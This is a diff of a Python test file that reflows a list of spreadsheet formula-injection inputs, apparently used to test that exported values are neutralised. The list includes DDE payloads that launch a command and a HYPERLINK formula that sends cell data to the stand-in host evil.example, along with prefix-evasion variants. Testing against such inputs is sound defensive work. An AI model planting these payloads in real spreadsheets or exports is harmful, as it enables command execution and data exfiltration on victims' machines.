@@ -31,8 +31,8 @@ from .nasty import saturate
 from .test_tenancy import World, address, make_world
 
 FORMULAS = [
-    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "＝1", "＋A1", "－A1", "＠A1", "|cmd",
-    "%0A=1",
+    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "＝1", "＋A1", "－A1", "＠A1",
+    "|cmd", "%0A=1",
     "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "-2+3+cmd|' /C calc'!A0", "--1", "+-1", "-A1",
     '"=1+1', "'=1+1", ";=1", "=", "-", "+", "@",
 ]  # fmt: skip
